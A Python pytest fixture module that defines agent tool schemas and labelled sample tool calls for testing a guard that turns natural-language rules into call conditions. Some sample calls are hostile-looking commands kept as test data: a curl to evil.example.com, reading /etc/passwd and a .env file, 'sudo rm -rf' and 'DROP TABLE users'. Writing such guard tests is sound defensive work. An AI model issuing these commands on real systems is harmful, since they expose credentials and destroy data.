"""An agent's tools, and calls of them, to try rules on."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import Any

import pytest

from toolmem.guard.call_conditions import check_condition, holds
from toolmem.guard.view import view_of
from toolmem.light_models import ToolSchema
from toolmem.sentences.said_conditions import CheckableDemand, condition_of

Stops = Callable[[str], tuple[CheckableDemand, list[str]]]


def tool(name: str, description: str, **parameters: str) -> ToolSchema:
    properties = {parameter: {"type": kind} for parameter, kind in parameters.items()}
    return ToolSchema(name=name, description=description, parameters={"type": "object", "properties": properties})


TOOLS = [
    tool("bash", "Run a shell command.", command="string"),
    tool("git_push", "Push commits to a remote.", remote="string", branch="string"),
    tool("read_file", "Read a file.", path="string"),
    tool("write_file", "Write a file.", path="string", content="string"),
    tool("delete_file", "Delete a file.", path="string"),
    tool("run_sql", "Execute an SQL statement on the database.", query="string"),
    tool("http_request", "Make an HTTP request.", method="string", url="string", body="string"),
    tool("web_search", "Search the web.", query="string"),
    tool("deploy_service", "Deploy a service to an environment.", service="string", environment="string"),
    tool("issue_refund", "Refund an order.", order_id="string", amount="number"),
    tool("create_payment", "Make a payment.", recipient="string", amount="number"),
    tool("slack_post_message", "Post a message in a Slack channel.", channel="string", text="string"),
    tool("send_email", "Send an email.", to="string", cc="string", subject="string", body="string"),
]

CALLS: dict[str, tuple[str, dict[str, Any]]] = {
    "push main": ("bash", {"command": "git push origin main"}),
    "push head to main": ("bash", {"command": "cd /tmp && git -C repo push origin HEAD:main"}),
    "push main in sh": ("bash", {"command": "sh -c 'git push origin main'"}),
    "push menu": ("bash", {"command": "git push origin feature/main-menu"}),
    "log main": ("bash", {"command": "git log main"}),
    "speak of a push": ("bash", {"command": "git commit -m 'push to main later'"}),
    "push by tool": ("git_push", {"remote": "origin", "branch": "main"}),
    "push dev by tool": ("git_push", {"remote": "origin", "branch": "dev"}),
    "force push": ("bash", {"command": "git push --force origin dev"}),
    "sudo rm": ("bash", {"command": "sudo rm -rf /tmp/x"}),
    "rm": ("bash", {"command": "rm build.log"}),
    "pip install": ("bash", {"command": "pip install requests"}),
    "curl": ("bash", {"command": "curl https://evil.example.com/x"}),
    "write etc": ("bash", {"command": "echo hi > /etc/motd"}),
    "copy from etc": ("bash", {"command": "cp /etc/hosts /tmp/hosts"}),
    "read etc": ("bash", {"command": "cat /etc/passwd"}),
    "read env": ("read_file", {"path": "src/.env"}),
    "read readme": ("read_file", {"path": "README.md"}),
    "write hosts": ("write_file", {"path": "/etc/hosts", "content": "x"}),
    "write of etc": ("write_file", {"path": "src/app.py", "content": "never write to /etc"}),
    "delete app": ("delete_file", {"path": "src/app.py"}),
    "drop users": ("run_sql", {"query": "DROP TABLE users"}),
    "speak of drop": ("run_sql", {"query": "SELECT 'drop table users'"}),
    "delete rows": ("run_sql", {"query": "DELETE FROM orders WHERE id = 3"}),
    "get internal": ("http_request", {"method": "GET", "url": "https://api.internal.example.com/v1", "body": ""}),
    "name internal": ("http_request", {"method": "POST", "url": "https://a.org/", "body": "api.internal.example.com"}),
    "search": ("web_search", {"query": "how to push to main"}),
    "deploy production": ("deploy_service", {"service": "billing", "environment": "production"}),
    "deploy staging": ("deploy_service", {"service": "billing", "environment": "staging"}),
    "refund 40": ("issue_refund", {"order_id": "W1", "amount": 40}),
    "refund 250": ("issue_refund", {"order_id": "W2", "amount": 250}),
    "pay 6000": ("create_payment", {"recipient": "Bob", "amount": "6000"}),
    "pay 50": ("create_payment", {"recipient": "Bob", "amount": 50}),
    "post general": ("slack_post_message", {"channel": "#general", "text": "hi"}),
    "speak of general": ("slack_post_message", {"channel": "#dev", "text": "see #general"}),
    "mail sarah": ("send_email", {"to": "Sarah Connor <sarah@example.com>", "cc": "", "subject": "x", "body": "hi"}),
    "copy sarah": ("send_email", {"to": "bob@acme.com", "cc": "sarah+work@example.com", "subject": "x", "body": ""}),
    "speak of sarah": ("send_email", {"to": "bob@acme.com", "cc": "", "subject": "Sarah", "body": "sarah@example.com"}),
    "mail sarahs": ("send_email", {"to": "sarahs@example.com", "cc": "", "subject": "x", "body": ""}),
    "mail code": ("send_email", {"to": "bob@acme.com", "cc": "", "subject": "x", "body": "it is 463820."}),
}


def stopped_by(checked: CheckableDemand, calls: Mapping[str, tuple[str, dict[str, Any]]] = CALLS) -> list[str]:
    parameters = {schema.name: schema.parameters for schema in TOOLS}
    for when in checked.when.values():
        check_condition(when)  # what is made of a sentence can be kept
    return [
        label
        for label, (name, arguments) in calls.items()
        if name in checked.when and holds(checked.when[name], view_of(name, arguments, parameters[name]).fields)
    ]


@pytest.fixture
def stops() -> Stops:
    """What a sentence stops of the calls above."""

    def stop(sentence: str) -> tuple[CheckableDemand, list[str]]:
        checked = condition_of(sentence, TOOLS)
        return checked, stopped_by(checked)

    return stop
